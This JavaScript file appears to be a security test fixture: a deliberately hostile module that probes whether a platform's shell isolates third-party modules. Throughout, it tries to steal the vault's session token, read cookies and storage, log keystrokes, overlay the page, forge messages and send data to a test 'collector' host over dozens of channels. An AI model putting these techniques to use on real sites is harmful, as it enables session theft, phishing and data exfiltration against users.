/* oxlint-disable -- what it does is what nobody is to do */
// A hostile module. It runs the attempts that its address names, one after the other, and writes what came of each into its element.
// An attempt gives what it got hold of; one that gives nothing, throws or never ends has failed. What leaves the browser is seen by
// the collector, a server of another origin, under the attempt's name.

/** Sends something by looking for a way through: to whom, is in the name of the server. */
async function speak(stun) {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  return connection
}
// In a frame of its own, within its frame.
if (location.href === 'about:srcdoc') void speak(name)

const query = new Map()
/** The attempt that runs. */
let current = ''
const hit = () => `${query.get('collector')}/hit/${query.get('tier')}/${encodeURIComponent(current)}`
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
const add = (tag, members = {}, parent = document.body) => {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(members)) element.setAttribute(name, value)
  parent.append(element)
  return element
}
/** Loads a frame. Gives its window unless the policy refused it. */
async function framed(src) {
  let refused = false
  document.addEventListener('securitypolicyviolation', () => (refused = true), { once: true })
  const frame = document.createElement('iframe')
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
  frame.src = src
  document.body.append(frame)
  await Promise.race([loaded, wait(700)])
  await wait(50)
  return refused ? undefined : frame.contentWindow && `a frame of ${new URL(src).host} stands`
}
const around = () => (parent === window ? window : parent)

/** What stays in the module's place while it is tried. */
const quiet = {
  // What the person and the shell have.
  'reads the name of the person from the shell’s page': () => around().document.querySelector('.person-button')?.textContent,
  'reads what other modules show': () => around().document.querySelector('nav')?.textContent,
  'presses a button of the shell': () => {
    around().document.querySelector('.bar-button').focus()
    return around().document.activeElement.className
  },
  'reads cookies': () => document.cookie,
  'reads localStorage': () => `${localStorage.length} entries`,
  'reads sessionStorage': () => Object.keys(sessionStorage).join(),
  'reads the parent’s sessionStorage': () => Object.keys(around().sessionStorage).join(),
  'opens IndexedDB': () =>
    new Promise((resolve, reject) => {
      const asked = indexedDB.open('attack')
      asked.onsuccess = () => resolve('opened')
      asked.onerror = reject
    }),
  'opens the caches': async () => ((await caches.open('attack')) ? 'opened' : undefined),
  'fills the storage': () => {
    localStorage.setItem('attack', 'x'.repeat(1e6))
    localStorage.removeItem('attack')
    return 'a megabyte'
  },
  'reads the vault’s window': () => around().frames[0].document.title || around().frames[0].sessionStorage.length,
  'takes the token from the vault’s storage': () => around().frames[0].sessionStorage.getItem('digione.user'),
  'finds the vault’s port': () => Reflect.get(around(), Symbol.for('digione.port')),
  'asks the platform’s API with the person’s cookies': async () =>
    (await fetch(`${query.get('shell')}/api/me`, { credentials: 'include' })).ok ? 'answered' : undefined,
  'asks for access to storage': async () => (document.requestStorageAccess && (await document.requestStorageAccess(), document.cookie)) || undefined,
  'sees which files the shell loaded': () =>
    performance.getEntriesByType('resource').find(({ name }) => name.startsWith(`${query.get('shell')}/assets/`))?.name,
  'reads the address of the shell’s page': () => around().location.pathname,
  // Log-in.
  'logs in silently in a hidden frame': () =>
    framed(`${query.get('session')}/oidc/auth?client_id=shell&prompt=none&response_type=code&scope=openid&redirect_uri=${query.get('session')}/silent`),
  'embeds a second vault': () => framed(`${query.get('session')}/frame`),
  'embeds the shell to lay something over it': () => framed(`${query.get('shell')}/`),
  'embeds another site': () => framed(hit()),
  // Code.
  'evaluates a text': () => (0, eval)('"ran"'),
  'makes a function of a text': () => Function('return "ran"')(),
  'runs a text by a timer': async () => {
    setTimeout('window.timed = "ran"')
    await wait(50)
    return window.timed
  },
  'runs an inline script': () => {
    add('script').textContent = 'window.inlined = "ran"'
    return window.inlined
  },
  'runs an inline handler': () => {
    add('div', { onclick: 'window.handled = "ran"' }).click()
    return window.handled
  },
  'runs a javascript: address': async () => {
    add('a', { href: 'javascript:window.addressed="ran"' }).click()
    await wait(100)
    return window.addressed
  },
  'runs a script in a frame of its own': async () => {
    const frame = document.createElement('iframe')
    frame.srcdoc = '<script>parent.nested = "ran"</script>'
    document.body.append(frame)
    await wait(300)
    return window.nested
  },
  'runs a script of another origin': async () => {
    add('script', { src: hit() })
    await wait(200)
  },
  'imports a module of another origin': () => import(/* @vite-ignore */ hit()),
  'starts a worker': async () => {
    const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${hit()}")`], { type: 'text/javascript' })))
    await new Promise((resolve, reject) => {
      worker.onerror = reject
      setTimeout(resolve, 400)
    })
  },
  'starts a shared worker': async () => void new SharedWorker(URL.createObjectURL(new Blob([`fetch("${hit()}")`], { type: 'text/javascript' }))),
  'registers a service worker': async () => ((await navigator.serviceWorker.register('/releases/attack.js')) ? 'registered' : undefined),
  // Ways out.
  'sends with fetch': () => fetch(hit(), { mode: 'no-cors' }).then(() => {}),
  'sends with fetch that outlives the page': () => fetch(hit(), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).then(() => {}),
  'sends with XMLHttpRequest': async () => {
    const request = new XMLHttpRequest()
    request.open('GET', hit())
    request.send()
    await wait(200)
  },
  'sends a beacon': () => void navigator.sendBeacon(hit(), 'x'),
  'sends over a WebSocket': async () => {
    new WebSocket(hit().replace('http', 'ws'))
    await wait(200)
  },
  'sends over an EventSource': async () => {
    new EventSource(hit())
    await wait(200)
  },
  'sends with an image': async () => {
    new Image().src = hit()
    await wait(200)
  },
  'sends with a style': async () => {
    const box = add('div')
    box.style.cssText = `inline-size:9px;block-size:9px;background:url(${hit()})`
    await wait(200)
  },
  'sends with a stylesheet': async () => {
    add('link', { rel: 'stylesheet', href: hit() }, document.head)
    await wait(200)
  },
  'sends with a font': async () => {
    const font = new FontFace('attack', `url(${hit()})`)
    document.fonts.add(font)
    await font.load().catch(() => {})
  },
  'sends with a video': async () => {
    add('video', { src: hit(), autoplay: '' })
    await wait(200)
  },
  'sends with an object': async () => {
    add('object', { data: hit() })
    await wait(200)
  },
  'sends with an SVG image': async () => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', hit())
    svg.append(image)
    document.body.append(svg)
    await wait(200)
  },
  'sends by prefetching': async () => {
    add('link', { rel: 'prefetch', href: hit() }, document.head)
    await wait(300)
  },
  'sends by preloading a module': async () => {
    add('link', { rel: 'modulepreload', href: hit() }, document.head)
    await wait(200)
  },
  'sends by rules of speculation': async () => {
    add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [hit()], eagerness: 'immediate' }] })
    await wait(300)
  },
  'sends from a blank frame’s own fetch': async () => {
    const frame = add('iframe')
    await frame.contentWindow.fetch(hit(), { mode: 'no-cors' })
  },
  'has a violation reported to it': async () => {
    add('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${hit()}` }, document.head)
    new Image().src = query.get('collector')
    await wait(300)
  },
  'opens a connection by preconnect': async () => {
    add('link', { rel: 'preconnect', href: query.get('preconnect') }, document.head)
    await wait(500)
  },
  'sends over WebRTC': async () => {
    const connection = await speak(query.get('stun'))
    await wait(800)
    connection.close()
  },
  'sends over WebRTC from a frame of its own': async () => {
    const map = JSON.parse(document.querySelector('script[type="importmap"]').textContent)
    const own = new URL(import.meta.url).pathname
    const policy = trustedTypes.createPolicy('vue', { createHTML: (text) => text })
    const frame = document.createElement('iframe')
    frame.name = query.get('nested')
    frame.srcdoc = policy.createHTML(
      `<script type="module" src="${new URL(own, location.href).href}" integrity="${map.integrity[own]}" crossorigin></scr` + 'ipt>',
    )
    add('div').attachShadow({ mode: 'closed' }).append(frame)
    await wait(1200)
  },
  'sends over WebTransport': async () => {
    new WebTransport(hit().replace('http:', 'https:')).ready.catch(() => {})
    await wait(200)
  },
  // Other windows.
  'hears what the shell and the vault say to each other': async () => {
    const heard = []
    addEventListener('message', ({ data }) => heard.push(data))
    await wait(300)
    return heard.length > 0 ? JSON.stringify(heard).slice(0, 100) : undefined
  },
  'gets a second port by knocking again': () =>
    new Promise((resolve) => {
      addEventListener('message', ({ ports }) => ports.length > 0 && resolve('a port'))
      parent.postMessage('digione-frame', '*')
      setTimeout(resolve, 400)
    }),
  'hears the channel of the shell’s tabs': async () => {
    const channel = new BroadcastChannel('digione.session')
    const heard = new Promise((resolve) => (channel.onmessage = ({ data }) => resolve(JSON.stringify(data))))
    return Promise.race([heard, wait(300)])
  },
  'has a window that opened it': () => window.opener && 'an opener',
  'reaches into the frames beside it': () => {
    const others = [...Array(around().frames.length).keys()].map((at) => around().frames[at]).filter((other) => other !== window)
    return others.map((other) => other.document?.title).join()
  },
  // What a browser can do.
  'goes full screen': async () => (await document.documentElement.requestFullscreen(), 'full screen'),
  'locks the pointer': async () => (await document.body.requestPointerLock(), document.pointerLockElement && 'locked'),
  'reads the clipboard': async () => `read ${(await navigator.clipboard.readText()).length}`,
  'learns where the person is': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('a place'), reject)),
  'takes the microphone': async () => ((await navigator.mediaDevices.getUserMedia({ audio: true })) ? 'taken' : undefined),
  'asks for a passkey': async () => ((await navigator.credentials.get({ password: true, mediation: 'silent' })) ? 'got one' : undefined),
  'shows a dialog of the browser': () => void alert(`attack ${query.get('tier')}`),
  // Harm to the shell, which the test looks for in the shell.
  'adds to every object of the shell': () => {
    around().Object.prototype.attacked = 1
  },
  'adds to every array of the shell': () => {
    around().Array.prototype.attacked = 1
  },
  'lays itself over the shell': () => {
    const cover = add('div', { 'data-attack': '' })
    cover.style.cssText = 'position:fixed;inset:0;z-index:2147483647'
  },
  'hears what is typed in the shell': async () => {
    around().addEventListener('keydown', ({ key }) => (around().document.documentElement.dataset.typed = key))
  },
  'names the window as it likes': () => {
    around().document.title = 'Kirjaudu sisään'
  },
  'fills the history': () => {
    for (let at = 0; at < 100; at++) history.pushState({ attack: at }, '')
  },
  'forges messages to the shell, the vault and other frames': async () => {
    const { port1, port2 } = new MessageChannel()
    const forged = [{ event: 'ended', why: 'logged-out' }, { digione: 'digione-frame' }, { id: 1, ok: true, value: null }, { kind: 'ended', why: 'logged-out' }]
    for (const message of forged) {
      around().postMessage(message, '*')
      for (let at = 0; at < around().frames.length; at++) around().frames[at].postMessage(message, '*')
      port1.postMessage(message)
    }
    around().postMessage('digione:port', '*', [port2])
  },
}

/** What may take the whole page along: each is tried in a browser of its own. */
const leaving = {
  'leaves for another site': () => {
    location.href = hit()
  },
  'takes the whole window to another site': () => {
    top.location.href = hit()
  },
  'has itself refreshed to another site': async () => {
    add('meta', { 'http-equiv': 'refresh', content: `0;url=${hit()}` }, document.head)
    await wait(600)
  },
  'opens a window': async () => {
    open(hit())
    await wait(400)
  },
  'follows a link of its own with a ping': async () => {
    add('a', { href: '#x', ping: hit() }).click()
    await wait(400)
  },
  'follows a link to another site': async () => {
    add('a', { href: hit(), target: '_top' }).click()
    await wait(500)
  },
  'fills the history with places of its own': async () => {
    for (let at = 0; at < 100; at++) location.hash = `#${at}`
    await wait(600)
  },
  'submits a form': async () => {
    const form = add('form', { action: hit(), method: 'post' })
    form.submit()
    await wait(500)
  },
}

async function tried(run) {
  try {
    const got = await Promise.race([Promise.resolve().then(run), wait(1500)])
    return got ? String(got).slice(0, 200) : ''
  } catch {
    return ''
  }
}

export default {
  async mount(el, host) {
    for (const [name, value] of Object.entries(host.location.value.query)) query.set(name, value)
    const all = { ...quiet, ...leaving }
    const names = query.has('only') ? [query.get('only')] : Object.keys(quiet)
    const results = document.createElement('pre')
    results.className = 'd1-visually-hidden'
    results.dataset.results = 'running'
    el.append(results)
    void (async () => {
      // Until the shell around it stands.
      await wait(1500)
      const got = {}
      for (const name of names) {
        current = name
        got[name] = await tried(all[name])
      }
      results.textContent = JSON.stringify(got)
      results.dataset.results = 'done'
    })()
  },
}
